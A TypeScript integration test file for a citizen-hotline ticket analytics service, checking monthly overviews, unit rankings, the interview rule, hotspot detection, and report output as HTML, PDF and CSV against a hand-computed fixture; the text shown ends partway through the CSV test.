/**
 * Analytics, rankings, early warning and reports over HTTP, on a small fixed data set whose
 * every figure is computed by hand below. The data lives in 2019–2020 and in units of its own
 * (ids `an-…`), so the tickets other test files create in the shared database do not touch it.
 *
 * - May and June 2020: the overview month (June) and its previous month, written straight into
 *   the read model as the workflow would have left them; June 2019, the same month a year
 *   before, comes in through the historical import.
 * - January to March 2020: seven small units and a big one, for the ranking groups, ties and the
 *   interview rule; one of them has no tickets in March.
 * - 18 August to 15 September 2020: a topic that jumps on 15 September and a steady one.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, sql } from 'drizzle-orm';
import { reports, ticketEvents, ticketHandlingDaily, tickets, units } from '../../db/schema';
import { DEFAULT_POLICY } from '../../domain/policy';
import { latestEndedStart } from '../../domain/reports';
import { shanghaiDay } from '../../domain/time';
import { ensureReportSchedules, reportScheduleId } from '../../platform/schedules';
import { startSystem, type TestSystem } from '../setup/system';
import { chromium } from 'playwright-core';
import { CHROMIUM_ARGS } from '../../api/report-pdf';

let sys: TestSystem;
let supervisor: string;
let admin: string;

/** A Shanghai civil time ('2020-06-02 09:00') as an instant. */
const sh = (civil: string) => new Date(`${civil.replace(' ', 'T')}+08:00`);
/** The end of a Shanghai day, where a limit of working days ends. */
const endOf = (day: string) => new Date(`${day}T23:59:59.999+08:00`);
const HOUR = 3600_000;

type Row = typeof tickets.$inferInsert;

/** A ticket as the read model holds it; answered directly unless said otherwise. */
const ticket = (id: string, receivedAt: string, over: Partial<Row> = {}): Row => ({
  id,
  channel: 'phone',
  content: `诉求 ${id}`,
  status: 'answered',
  regionCode: '410702',
  receivedAt: sh(receivedAt),
  ...over,
});

/** Dispatched at receipt, sign-off limit an hour later and signed after 20 minutes, closed unless said otherwise. */
const handled = (id: string, unitId: string, receivedAt: string, dueDay: string, over: Partial<Row> = {}): Row =>
  ticket(id, receivedAt, {
    status: 'closed',
    unitId,
    dispatchedAt: sh(receivedAt),
    signBy: new Date(sh(receivedAt).getTime() + HOUR),
    signedAt: new Date(sh(receivedAt).getTime() + HOUR / 3),
    dueBy: endOf(dueDay),
    ...over,
  });

const UNITS = [
  { id: 'an-water', name: '测试供水集团', level: 'city' as const, regionCode: '410700' },
  { id: 'an-hongqi', name: '测试红旗区', level: 'county' as const, regionCode: '410702' },
  { id: 'an-street', name: '测试西街街道', level: 'township' as const, regionCode: '410702', parentId: 'an-hongqi' },
  { id: 'an-muye', name: '测试牧野区', level: 'county' as const, regionCode: '410711' },
  { id: 'an-idle', name: '测试无工单单位', level: 'city' as const, regionCode: '410700' },
  { id: 'an-big', name: '测试大单位', level: 'city' as const, regionCode: '410700' },
  { id: 'an-xinxiang', name: '测试新乡县', level: 'county' as const, regionCode: '410721' },
  ...[1, 2, 3, 4, 5, 6, 7].map((i) => ({ id: `an-i${i}`, name: `测试乡镇${i}`, level: 'township' as const, regionCode: '410721', parentId: 'an-xinxiang' })),
];

/** May 2020 (the month before) and June 2020 (the overview month). */
const MAY_AND_JUNE: Row[] = [
  // one second before midnight on 31 May, Shanghai time: May
  ticket('an-j00', '2020-05-31 23:59:59'),
  ticket('an-m01', '2020-05-10 10:00'),
  handled('an-m02', 'an-water', '2020-05-12 09:00', '2020-05-19', { channel: 'wechat', repliedAt: sh('2020-05-15 10:00'), replyOnTime: true, satisfaction: 'satisfied' }),
  handled('an-m03', 'an-hongqi', '2020-05-15 09:00', '2020-05-22', { repliedAt: sh('2020-05-25 10:00'), replyOnTime: false, satisfaction: 'dissatisfied', closeReason: 'finalized' }),
  // received in May, due in June: June's handling figures
  handled('an-j12', 'an-hongqi', '2020-05-28 09:00', '2020-06-04', { repliedAt: sh('2020-06-03 10:00'), replyOnTime: true, satisfaction: 'satisfied' }),
  // midnight of 1 June, Shanghai time (16:00Z on 31 May): June
  ticket('an-j01', '2020-06-01 00:00:00', { type: 'consultation', topic: '010101' }),
  handled('an-j02', 'an-water', '2020-06-02 09:00', '2020-06-09', {
    type: 'help', topic: '030101', repliedAt: sh('2020-06-05 10:00'), replyOnTime: true, satisfaction: 'satisfied', callbackBy: endOf('2020-06-09'),
  }),
  ticket('an-j10', '2020-06-02 15:00', { channel: 'web', type: 'other', regionCode: null, status: 'rejected' }),
  // replied after its first limit (10 June) but within the approved extension: on time
  handled('an-j03', 'an-hongqi', '2020-06-03 10:00', '2020-06-17', {
    channel: 'wechat', type: 'complaint', topic: '030102', signBy: endOf('2020-06-04'), signedAt: sh('2020-06-03 11:00'),
    extension: { workingDays: 5, reason: '需协调多部门', status: 'approved' }, repliedAt: sh('2020-06-15 10:00'), replyOnTime: true, satisfaction: 'basically_satisfied',
  }),
  // signed late, replied late, dissatisfied and finalized
  handled('an-j04', 'an-hongqi', '2020-06-04 09:00', '2020-06-11', {
    type: 'complaint', topic: '030101', regionCode: '410711', signBy: endOf('2020-06-05'), signedAt: sh('2020-06-06 09:00'),
    repliedAt: sh('2020-06-12 09:00'), replyOnTime: false, satisfaction: 'dissatisfied', closeReason: 'finalized',
  }),
  // business environment; dissatisfied once, re-handled, replied again in time and satisfied
  handled('an-j05', 'an-water', '2020-06-05 08:00', '2020-06-12', {
    channel: 'web', type: 'help', topic: '040501', regionCode: '410703', businessEnvironment: true,
    repliedAt: sh('2020-06-10 10:00'), replyOnTime: true, satisfaction: 'satisfied', rehandleCount: 1,
  }),
  // the citizen could not be reached: no opinion
  handled('an-j06', 'an-street', '2020-06-08 14:00', '2020-06-15', {
    type: 'help', topic: '030101', repliedAt: sh('2020-06-12 10:00'), replyOnTime: true, satisfaction: 'unreachable', closeReason: 'unreachable',
  }),
  // replied, its callback limit passed without a callback
  handled('an-j09', 'an-muye', '2020-06-10 09:00', '2020-06-17', {
    type: 'suggestion', topic: '060101', regionCode: '410711', status: 'replied', repliedAt: sh('2020-06-16 10:00'), replyOnTime: true, callbackBy: endOf('2020-06-18'),
  }),
  // still being handled, long past due, escalated
  handled('an-j07', 'an-muye', '2020-06-20 09:00', '2020-06-28', {
    channel: 'app', type: 'report', topic: '050101', regionCode: '410711', status: 'handling', overdue: true, escalated: true,
  }),
  // received in June, due in July
  handled('an-j08', 'an-water', '2020-06-25 09:00', '2020-07-02', { type: 'help', topic: '030101', regionCode: '410703', status: 'handling' }),
  // the last millisecond of June, not yet classified
  ticket('an-j11', '2020-06-30 23:59:59', { channel: 'sms', status: 'triage' }),
];

/** June 2019, through the import: answered, on time, due on the day received (no limit), due in July. */
const JUNE_2019 = [
  { id: 'an-y01', channel: 'phone', receivedAt: '2019-06-03T10:00:00+08:00', status: 'answered', regionCode: '410702' },
  {
    id: 'an-y02', channel: 'phone', receivedAt: '2019-06-05T09:00:00+08:00', status: 'closed', unitId: 'an-water', dispatchedAt: '2019-06-05T09:10:00+08:00',
    dueBy: '2019-06-12T23:59:59.999+08:00', repliedAt: '2019-06-10T10:00:00+08:00', satisfaction: 'satisfied',
  },
  {
    id: 'an-y03', channel: 'web', receivedAt: '2019-06-10T09:00:00+08:00', status: 'closed', unitId: 'an-hongqi', dispatchedAt: '2019-06-10T09:10:00+08:00',
    repliedAt: '2019-06-20T10:00:00+08:00', satisfaction: 'dissatisfied',
  },
  {
    id: 'an-y04', channel: 'phone', receivedAt: '2019-06-30T23:30:00+08:00', status: 'closed', unitId: 'an-water', dispatchedAt: '2019-06-30T23:40:00+08:00',
    dueBy: '2019-07-05T23:59:59.999+08:00', repliedAt: '2019-07-02T10:00:00+08:00', satisfaction: 'satisfied',
  },
];

/**
 * January–March 2020: per small unit, how many of its two tickets a month went well (on time and
 * satisfied) — 2 scores 100, 1 scores 55, 0 scores 10; an-i7 has none in March. an-big has 11
 * tickets, all well (10 in February: the small group then).
 */
const QUALITY: Record<string, Record<string, number>> = {
  '2020-01': { i1: 0, i2: 0, i3: 1, i4: 2, i5: 2, i6: 2, i7: 1 },
  '2020-02': { i1: 0, i2: 2, i3: 1, i4: 2, i5: 2, i6: 2, i7: 1 },
  '2020-03': { i1: 0, i2: 0, i3: 1, i4: 2, i5: 2, i6: 1 },
};
const BIG = { '2020-01': 11, '2020-02': 10, '2020-03': 11 } as Record<string, number>;

function monthTicket(id: string, unitId: string, month: string, good: boolean): Row {
  return handled(id, unitId, `${month}-05 09:00`, `${month}-12`, {
    repliedAt: sh(`${month}-${good ? '10' : '14'} 10:00`),
    replyOnTime: good,
    satisfaction: good ? 'satisfied' : 'dissatisfied',
    regionCode: '410721',
  });
}

const RANKING_MONTHS: Row[] = Object.entries(QUALITY).flatMap(([month, quality]) => [
  ...Object.entries(quality).flatMap(([unit, good]) => [0, 1].map((k) => monthTicket(`an-${month}-${unit}-${k}`, `an-${unit}`, month, k < good))),
  ...Array.from({ length: BIG[month]! }, (_, k) => monthTicket(`an-${month}-big-${k}`, 'an-big', month, true)),
]).concat(
  // a unit the units table does not know, as history may hold: counted in the district of its ticket
  ticket('an-2020-03-ghost', '2020-03-06 09:00', {
    status: 'closed', unitId: 'an-ghost', regionCode: '410725', dispatchedAt: sh('2020-03-06 09:00'), dueBy: endOf('2020-03-13'),
    repliedAt: sh('2020-03-10 09:00'), replyOnTime: true, satisfaction: 'satisfied', imported: true,
  }),
);

/**
 * October–December 2017: four of six small units perfect every month (100), an-i5 at 55, an-i6
 * at 10. The bottom 3 of six reach the perfect four (rank 1, 3rd from the bottom): they tie at the
 * cut, yet are never called in.
 */
const PERFECT_TIE: Record<string, number> = { i1: 2, i2: 2, i3: 2, i4: 2, i5: 1, i6: 0 };
const PERFECT_TIE_MONTHS: Row[] = ['2017-10', '2017-11', '2017-12'].flatMap((month) =>
  Object.entries(PERFECT_TIE).flatMap(([unit, good]) => [0, 1].map((k) => monthTicket(`an-${month}-${unit}-${k}`, `an-${unit}`, month, k < good))),
);

/** 18 August – 15 September 2020: topic 070101 every other day, then 12 on 15 September at one place; 070102 five a day. */
const HOTSPOT_DAYS: Row[] = (() => {
  const rows: Row[] = [];
  const phones = ['13900001111', '+86 139-0000-1111', '139 0000 1111'];
  for (let d = 0; d < 29; d++) {
    const day = new Date(Date.UTC(2020, 7, 18 + d)).toISOString().slice(0, 10);
    for (let k = 0; k < 5; k++) rows.push(ticket(`an-steady-${day}-${k}`, `${day} ${10 + k}:00`, { topic: '070102', regionCode: '410783', type: 'help' }));
    if (d < 28 && d % 2 === 0) rows.push(ticket(`an-hot-${day}`, `${day} 09:00`, { topic: '070101', regionCode: '410782', type: 'complaint' }));
  }
  for (let k = 0; k < 12; k++) {
    rows.push(
      ticket(`an-hot-2020-09-15-${k}`, `2020-09-15 ${String(8 + k).padStart(2, '0')}:30`, {
        topic: '070101', regionCode: '410782', type: 'complaint', address: k % 2 ? '平原路 88号' : '平原路88号', callerPhone: phones[k] ?? null,
      }),
    );
  }
  return rows;
})();

beforeAll(async () => {
  sys = await startSystem();
  [supervisor, admin] = await Promise.all([sys.key('supervisor'), sys.key('admin')]);
  const { db } = sys.database;
  await db.insert(units).values(UNITS).onConflictDoNothing();
  await db.insert(tickets).values([...MAY_AND_JUNE, ...RANKING_MONTHS, ...PERFECT_TIE_MONTHS, ...HOTSPOT_DAYS]).onConflictDoNothing();
  await db
    .insert(ticketEvents)
    .values({ ticketId: 'an-j02', seq: 3, type: 'return_approved', at: sh('2020-06-02 09:20'), actor: { role: 'supervisor', id: 'k' }, data: { fromUnitId: 'an-muye', unitId: 'an-water' } })
    .onConflictDoNothing();
  const imported = await sys.call('POST', '/v1/admin/import/tickets', {
    key: admin,
    raw: JUNE_2019.map((r) => JSON.stringify(r)).join('\n'),
    headers: { 'content-type': 'application/x-ndjson' },
  });
  expect(imported.status, JSON.stringify(imported.body)).toBe(200);
});

afterAll(async () => {
  await sys?.call('PUT', '/v1/admin/policy', { key: sys.adminKey, body: DEFAULT_POLICY });
  await sys?.stop();
});

const get = async (path: string, key = supervisor) => {
  const res = await sys.call('GET', path, { key });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body;
};
const byKey = (list: { key: string | null; tickets: number }[]) => list.map((b) => [b.key, b.tickets]);

describe('the overview of a month', () => {
  it('counts volume, daily average, peak day and breakdowns of the tickets received in the Shanghai month', async () => {
    const o = await get('/v1/analytics/overview?from=2020-06-01&to=2020-06-30');
    expect(o.period).toEqual({ from: '2020-05-31T16:00:00.000Z', to: '2020-06-30T16:00:00.000Z', firstDay: '2020-06-01', lastDay: '2020-06-30', days: 30 });
    // j01 at midnight and j11 a second before the next one are in; j00 a second before June is not
    expect(o.volume.value).toBe(11);
    expect(o.dailyAverage.value).toBeCloseTo(11 / 30, 12);
    expect(o.peakDay).toEqual({ day: '2020-06-02', tickets: 2 });
    expect(o.byDay[0]).toEqual({ day: '2020-06-01', tickets: 1 });
    expect(o.byDay.at(-1)).toEqual({ day: '2020-06-30', tickets: 1 });
    expect(byKey(o.byChannel)).toEqual([['phone', 6], ['web', 2], ['app', 1], ['sms', 1], ['wechat', 1]]);
    expect(byKey(o.byType)).toEqual([['help', 4], ['complaint', 2], [null, 1], ['consultation', 1], ['other', 1], ['report', 1], ['suggestion', 1]]);
    expect(byKey(o.byTopic).slice(0, 2)).toEqual([['030101', 4], [null, 2]]);
    expect(byKey(o.byTopicMajor)).toEqual([['03', 5], [null, 2], ['01', 1], ['04', 1], ['05', 1], ['06', 1]]);
    expect(byKey(o.byRegion)).toEqual([['410702', 5], ['410711', 3], ['410703', 2], [null, 1]]);
    expect(o.byRegion[0].share).toEqual({ numerator: 5, denominator: 11, value: 5 / 11 });
  });

  it('gives each share and rate with its numerator and denominator', async () => {
    const o = await get('/v1/analytics/overview?from=2020-06-01&to=2020-06-30');
    expect(o.directAnswerShare).toMatchObject({ numerator: 1, denominator: 11, value: 1 / 11 });
    expect(o.dispatchShare).toMatchObject({ numerator: 8, denominator: 11 }); // j02–j09
    // due in June: j12 (received in May), j02, j03, j04, j05, j06, j07, j09; j08 is due in July
    expect(o.completionRate).toMatchObject({ numerator: 7, denominator: 8, value: 7 / 8 }); // j07 is still open
    // j04 was late; j03 replied after its first limit but within the approved extension
    expect(o.onTimeCompletionRate).toMatchObject({ numerator: 6, denominator: 8, value: 0.75 });
    // (3 satisfied + 1 × 1 basically) ÷ (3 + 1 + 1 dissatisfied); j06 unreachable is no opinion
    expect(o.basicallySatisfiedWeight).toBe(1);
    expect(o.satisfactionRate).toMatchObject({ numerator: 4, denominator: 5, value: 0.8 });
    // done: six outcomes, unreachable included; due: those and j09, whose callback limit passed
    expect(o.callbackRate).toMatchObject({ numerator: 6, denominator: 7, value: 6 / 7 });
  });

  it('reports the business-environment lane on its own', async () => {
    const o = await get('/v1/analytics/overview?from=2020-06-01&to=2020-06-30');
    expect(o.businessEnvironment.share).toMatchObject({ numerator: 1, denominator: 11 });
    expect(o.businessEnvironment.volume.value).toBe(1);
    expect(o.businessEnvironment.dispatchShare).toMatchObject({ numerator: 1, denominator: 1 });
    expect(o.businessEnvironment.completionRate).toMatchObject({ numerator: 1, denominator: 1 });
    expect(o.businessEnvironment.satisfactionRate).toMatchObject({ numerator: 1, denominator: 1 });
  });

  it('compares with May (环比) and with the imported June 2019 (同比): volumes relative, rates in points', async () => {
    const o = await get('/v1/analytics/overview?from=2020-06-01&to=2020-06-30');
    expect(o.monthOnMonthPeriod).toMatchObject({ firstDay: '2020-05-01', lastDay: '2020-05-31', days: 31 });
    expect(o.yearOnYearPeriod).toMatchObject({ firstDay: '2019-06-01', lastDay: '2019-06-30', days: 30 });
    // May: j00, m01, m02, m03, j12; June 2019: y01–y04
    expect(o.volume.monthOnMonth).toEqual({ previous: 5, change: (11 - 5) / 5 });
    expect(o.volume.yearOnYear).toEqual({ previous: 4, change: (11 - 4) / 4 });
    expect(o.dailyAverage.monthOnMonth.change).toBeCloseTo((11 / 30 - 5 / 31) / (5 / 31), 12);
    expect(o.directAnswerShare.monthOnMonth.previous).toBe(2 / 5);
    expect(o.directAnswerShare.monthOnMonth.changePoints).toBeCloseTo((1 / 11 - 2 / 5) * 100, 12);
    expect(o.directAnswerShare.yearOnYear.changePoints).toBeCloseTo((1 / 11 - 1 / 4) * 100, 12);
    // due in May: m02 on time and satisfied, m03 late and dissatisfied
    expect(o.completionRate.monthOnMonth).toEqual({ previous: 1, changePoints: -12.5 });
    expect(o.onTimeCompletionRate.monthOnMonth).toEqual({ previous: 0.5, changePoints: 25 });
    expect(o.satisfactionRate.monthOnMonth.changePoints).toBeCloseTo(30, 12);
    // due in June 2019: y02 on time by its limit, y03 without a limit (due when received, never on time); y04 is due in July
    expect(o.completionRate.yearOnYear).toEqual({ previous: 1, changePoints: -12.5 });
    expect(o.onTimeCompletionRate.yearOnYear).toEqual({ previous: 0.5, changePoints: 25 });
    expect(o.satisfactionRate.yearOnYear.changePoints).toBeCloseTo(30, 12);
    expect(o.callbackRate.yearOnYear.previous).toBe(1);
    const phone = o.byChannel.find((b: { key: string }) => b.key === 'phone');
    expect(phone.monthOnMonth).toEqual({ previous: 4, change: 0.5 });
    expect(phone.yearOnYear).toEqual({ previous: 3, change: 1 });
    const web = o.byChannel.find((b: { key: string }) => b.key === 'web');
    expect(web.monthOnMonth).toEqual({ previous: 0, change: null });
    expect(o.businessEnvironment.volume.monthOnMonth).toEqual({ previous: 0, change: null });
  });

  it('weights basically satisfied as the policy says', async () => {
    const put = await sys.call('PUT', '/v1/admin/policy', {
      key: sys.adminKey,
      body: { ...DEFAULT_POLICY, kpi: { ...DEFAULT_POLICY.kpi, basicallySatisfiedWeight: 0.9 } },
    });
    expect(put.status).toBe(200);
    try {
      const o = await get('/v1/analytics/overview?from=2020-06-01&to=2020-06-30');
      expect(o.basicallySatisfiedWeight).toBe(0.9);
      expect(o.satisfactionRate.numerator).toBeCloseTo(3.9, 12);
      expect(o.satisfactionRate.value).toBeCloseTo(0.78, 12);
    } finally {
      await sys.call('PUT', '/v1/admin/policy', { key: sys.adminKey, body: DEFAULT_POLICY });
    }
  });

  it('refuses what is not a period of days, naming the field', async () => {
    const bad = await sys.call('GET', '/v1/analytics/overview?from=2020-06-31&to=2020-07-01', { key: supervisor });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details).toEqual([{ path: 'from', message: 'must be a day of the calendar' }]);
    const reversed = await sys.call('GET', '/v1/analytics/overview?from=2020-06-02&to=2020-06-01', { key: supervisor });
    expect(reversed.body.error.details[0].path).toBe('to');
    const long = await sys.call('GET', '/v1/analytics/overview?from=2019-01-01&to=2020-06-01', { key: supervisor });
    expect(long.status).toBe(400);
  });
});

describe('the monthly ranking', () => {
  it('scores each unit on its June cohort, with the components, red and black lists', async () => {
    const r = await get('/v1/analytics/rankings?month=2020-06&level=unit');
    const mine = r.small.entries.filter((e: { id: string }) => e.id.startsWith('an-'));
    // an-street: sign-off and on time 1, no valid callback (re-weighted); an-water: re-handled 1 of 2;
    // an-hongqi: 2/3 each; an-muye: on time 1/2, no callbacks, 1 return of 3 tickets given
    expect(mine.map((e: { id: string; score: number; rank: number }) => [e.id, e.score, e.rank])).toEqual([
      ['an-street', 100, 1],
      ['an-water', 97.5, 2],
      ['an-hongqi', 66.67, 3],
      ['an-muye', 56.67, 4],
    ]);
    const muye = mine.find((e: { id: string }) => e.id === 'an-muye');
    expect(muye.tickets).toBe(2);
    expect(muye.components).toEqual({
      signOffRate: { numerator: 2, denominator: 2, value: 1 },
      onTimeRate: { numerator: 1, denominator: 2, value: 0.5 },
      satisfactionRate: { numerator: 0, denominator: 0, value: null },
      returnRate: { numerator: 1, denominator: 3, value: 1 / 3 },
      rehandleRate: { numerator: 0, denominator: 2, value: 0 },
    });
    expect(r.small.redList).toEqual(['an-street', 'an-water']);
    expect(r.small.blackList).toEqual(['an-hongqi', 'an-muye']);
    expect(r.weights).toEqual(DEFAULT_POLICY.kpi.ranking.weights);
    expect(r.unranked).toContainEqual(expect.objectContaining({ id: 'an-idle', name: '测试无工单单位', tickets: 0, score: null }));
  });

  it('ranks in volume groups, shares ranks among ties, and leaves units without tickets unranked', async () => {
    const jan = await get('/v1/analytics/rankings?month=2020-01');
    expect(jan.large.entries.map((e: { id: string; tickets: number }) => [e.id, e.tickets])).toEqual([['an-big', 11]]);
    expect(jan.small.entries.map((e: { id: string; score: number; rank: number; rankFromBottom: number }) => [e.id, e.score, e.rank, e.rankFromBottom])).toEqual([
      ['an-i4', 100, 1, 5],
      ['an-i5', 100, 1, 5],
      ['an-i6', 100, 1, 5],
      ['an-i3', 55, 4, 3],
      ['an-i7', 55, 4, 3],
      ['an-i1', 10, 6, 1],
      ['an-i2', 10, 6, 1],
    ]);
    // 3 places each in a group of 7; ties at the cut are all in
    expect(jan.small.redList).toEqual(['an-i4', 'an-i5', 'an-i6']);
    expect(jan.small.blackList).toEqual(['an-i3', 'an-i7', 'an-i1', 'an-i2']);
    // 10 tickets are the small group
    const feb = await get('/v1/analytics/rankings?month=2020-02');
    expect(feb.small.entries.find((e: { id: string }) => e.id === 'an-big')).toMatchObject({ tickets: 10, score: 100 });
    const mar = await get('/v1/analytics/rankings?month=2020-03');
    expect(mar.unranked).toContainEqual(expect.objectContaining({ id: 'an-i7', tickets: 0 }));
    expect(mar.small.entries.find((e: { id: string }) => e.id === 'an-ghost')).toMatchObject({ name: null, score: 100 });
  });

  it('ranks counties on the tickets of their own units, the district of an unknown unit’s ticket', async () => {
    const mar = await get('/v1/analytics/rankings?month=2020-03&level=county');
    expect(mar.large.entries.find((e: { id: string }) => e.id === '410721')).toMatchObject({ tickets: 12 });
    expect(mar.small.entries.find((e: { id: string }) => e.id === '410725')).toMatchObject({ tickets: 1 });
    const jun = await get('/v1/analytics/rankings?month=2020-06&level=county');
    const hongqi = jun.small.entries.find((e: { id: string }) => e.id === '410702');
    expect(hongqi.tickets).toBe(4); // an-hongqi's three and its street's one; an-water is a city unit
    expect(jun.small.entries.find((e: { id: string }) => e.id === '410711')).toMatchObject({ tickets: 2, components: { returnRate: { numerator: 1, denominator: 3 } } });
  });
});

describe('the interview rule (约谈)', () => {
  it('names the units in the bottom 3 of their group in each of three consecutive months, with their scores', async () => {
    const i = await get('/v1/analytics/interviews?month=2020-03');
    expect(i.months).toEqual(['2020-01', '2020-02', '2020-03']);
    // an-i2 left the bottom in February; an-i7 had no tickets in March; an-i6 was at the top in January
    expect(i.cases).toEqual([
      {
        id: 'an-i1',
        name: '测试乡镇1',
        positions: [
          { month: '2020-01', group: 'small', rankFromBottom: 1, score: 10 },
          { month: '2020-02', group: 'small', rankFromBottom: 1, score: 10 },
          { month: '2020-03', group: 'small', rankFromBottom: 1, score: 10 },
        ],
      },
      {
        id: 'an-i3',
        name: '测试乡镇3',
        positions: [
          { month: '2020-01', group: 'small', rankFromBottom: 3, score: 55 },
          { month: '2020-02', group: 'small', rankFromBottom: 2, score: 55 },
          { month: '2020-03', group: 'small', rankFromBottom: 3, score: 55 },
        ],
      },
    ]);
    expect((await get('/v1/analytics/interviews?month=2020-02')).cases).toEqual([]);
  });

  it('never calls in a unit with a perfect score, though it ties at the bottom cut', async () => {
    const dec = await get('/v1/analytics/rankings?month=2017-12');
    expect(dec.small.entries.map((e: { id: string; score: number; rank: number; rankFromBottom: number }) => [e.id, e.score, e.rank, e.rankFromBottom])).toEqual([
      ['an-i1', 100, 1, 3],
      ['an-i2', 100, 1, 3],
      ['an-i3', 100, 1, 3],
      ['an-i4', 100, 1, 3],
      ['an-i5', 55, 5, 2],
      ['an-i6', 10, 6, 1],
    ]);
    expect(dec.small.blackList).toEqual(['an-i5', 'an-i6']);
    const i = await get('/v1/analytics/interviews?month=2017-12');
    expect(i.cases.map((c: { id: string; positions: { score: number }[] }) => [c.id, c.positions.map((p) => p.score)])).toEqual([
      ['an-i5', [55, 55, 55]],
      ['an-i6', [10, 10, 10]],
    ]);
  });
});

describe('hot spots and early warning', () => {
  it('flags a topic and a district that jump against their baseline, not the steady ones; clusters a place and a repeat caller', async () => {
    const h = await get('/v1/analytics/hotspots?from=2020-09-15&to=2020-09-15');
    expect(h.baseline).toMatchObject({ firstDay: '2020-08-18', lastDay: '2020-09-14', days: 28 });
    // 070101: 14 in 28 days, then 12 in one; 070102: five every day
    expect(h.topics.map((t: { key: string; count: number; expected: number; method: string }) => [t.key, t.count, t.expected, t.method])).toEqual([['070101', 12, 0.5, 'poisson']]);
    expect(h.topics[0].pValue).toBeLessThan(1e-10);
    expect(h.regions.map((r: { key: string }) => r.key)).toEqual(['410782']);
    expect(h.placeClusters).toEqual([expect.objectContaining({ regionCode: '410782', topic: '070101', tickets: 12 })]);
    expect(h.repeatCallers).toEqual([expect.objectContaining({ phone: '139****1111', tickets: 3, topics: ['070101'] })]);
    expect(JSON.stringify(h)).not.toContain('13900001111');
  });

  it('finds nothing on a steady day', async () => {
    const h = await get('/v1/analytics/hotspots?from=2020-09-14&to=2020-09-14');
    expect(h.topics).toEqual([]);
    expect(h.regions).toEqual([]);
  });
});

describe('periodic reports', () => {
  it('generates the report of a past month on request, stores it once, and regenerates it in place', async () => {
    const first = await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'month', start: '2020-06-01' } });
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    expect(first.body).toMatchObject({ id: 'month-2020-06-01', period: 'month', start: '2020-06-01', range: { firstDay: '2020-06-01', lastDay: '2020-06-30' } });
    expect(first.body.overview.volume.value).toBe(11);
    expect(first.body.rankings.basis).toBe('month');
    expect(first.body.rankings.unit.small.redList).toEqual(expect.arrayContaining(['an-street', 'an-water']));
    expect(first.body.interviews).toMatchObject({ month: '2020-06', cases: [] });
    expect(first.body.notable.overdue.total).toBe(2);
    expect(first.body.notable.overdue.tickets.map((t: { id: string }) => t.id)).toEqual(['an-j07', 'an-j04']); // the longest late first
    expect(first.body.notable.escalated.tickets.map((t: { id: string }) => t.id)).toEqual(['an-j07']);
    expect(first.body.notable.dissatisfied.tickets.map((t: { id: string }) => t.id)).toEqual(['an-j04']);

    const again = await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'month', start: '2020-06-01' } });
    expect(again.status).toBe(200);
    expect(again.body.generatedAt > first.body.generatedAt).toBe(true);
    const rows = await sys.database.db.select().from(reports).where(eq(reports.id, 'month-2020-06-01'));
    expect(rows).toHaveLength(1);
    expect(await get('/v1/reports/month-2020-06-01')).toEqual(again.body);
  });

  it('opens in headless Chromium through a short-lived signed link, with names beside codes and Beijing times; and prints to PDF', async () => {
    const link = await sys.call('POST', '/v1/reports/month-2020-06-01/link', { key: supervisor });
    expect(link.status, JSON.stringify(link.body)).toBe(201);
    expect(Date.parse(link.body.expiresAt) - Date.now()).toBeGreaterThan(0);
    // a browser sends no Bearer header
    const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: CHROMIUM_ARGS });
    try {
      const page = await browser.newPage();
      const opened = await page.goto(`${sys.baseUrl}${link.body.url}`);
      expect(opened?.status()).toBe(200);
      const text = await page.locator('body').innerText();
      expect(text).toContain('12345 政务服务便民热线 月报 2020-06-01 – 2020-06-30');
      // the long-overdue an-j07: its unit, topic and district by name with their codes, its times in Beijing time
      const row = await page.locator('tr', { hasText: 'an-j07' }).first().innerText();
      expect(row).toContain('测试牧野区 (an-muye)');
      expect(row).toContain('大气污染 (050101)');
      expect(row).toContain('2020-06-20 09:00 +08:00');
      expect(row).toContain('2020-06-28 23:59 +08:00');
      expect(row).toContain('牧野区 (410711)');
      expect(text).toContain('牧野区 (410711)');
      // one unit per column: relative changes in %, rates' changes in percentage points
      expect(text).toContain('环比 MoM (%)');
      expect(text).toContain('环比 MoM (pp)');
    } finally {
      await browser.close();
    }
    const pdf = await fetch(`${sys.baseUrl}${link.body.url}&format=pdf`);
    expect(pdf.status).toBe(200);
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(await pdf.arrayBuffer()).subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('refuses a link that was altered, made for another report, or has expired', async () => {
    const { body } = await sys.call('POST', '/v1/reports/month-2020-06-01/link', { key: supervisor });
    const token = new URL(body.url, sys.baseUrl).searchParams.get('token')!;
    const [expires, mac] = token.split('.');
    const view = (id: string, t: string) => fetch(`${sys.baseUrl}/v1/reports/${id}/view?token=${encodeURIComponent(t)}`);
    expect((await view('month-2020-06-01', `${Number(expires) + 3600}.${mac}`)).status).toBe(403);
    expect((await view('month-2020-05-01', token)).status).toBe(403);
    expect((await view('month-2020-06-01', `${Math.floor(Date.now() / 1000) - 1}.${mac}`)).status).toBe(403);
    expect((await sys.call('POST', '/v1/reports/month-2020-06-01/link', { key: await sys.key('agent') })).status).toBe(403);
  });

  it('serves a report as CSV and as a printable HTML page with inline SVG charts', async () => {
    const csv = await sys.call('GET', '/v1/reports/month-2020-06-01.csv', { key: supervisor });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const lines = (csv.body as string).replace(/^\uFEFF/, '').split('\r\n');
    // one unit per column: a volume's relative change and a rate's change in points each in its own
    expect(lines[0]).toBe(
      'section,key,name,figure,value,value_unit,numerator,denominator,month_on_month_change,year_on_year_change,month_on_month_pp,year_on_year_pp',
    );
    expect(lines).toContain('overview,,,volume,11,tickets,,,1.2,1.75,,');
    expect(lines).toContain('overview,,,onTimeCompletionRate,0.75,ratio,6,8,,,25,25');
    expect(lines).toContain('ranking_unit_small,an-water,测试供水集团,score,97.5,score,,,,,,');
    // names beside codes: topic, district, unit, channel
    const named = (prefix: string) => lines.filter((l) => l.startsWith(prefix));
    expect(named('by_topic,050101,大气污染,tickets,')).toHaveLength(1);
    expect(named('by_region,410711,牧野区,tickets,')).toHaveLength(1);
    expect(named('by_channel,app,移动应用,tickets,')).toHaveLength(1);
    expect(named('ranking_county_')[0]).toMatch(/^ranking_county_(large|small),4107\d\d,[^,]+区,/);
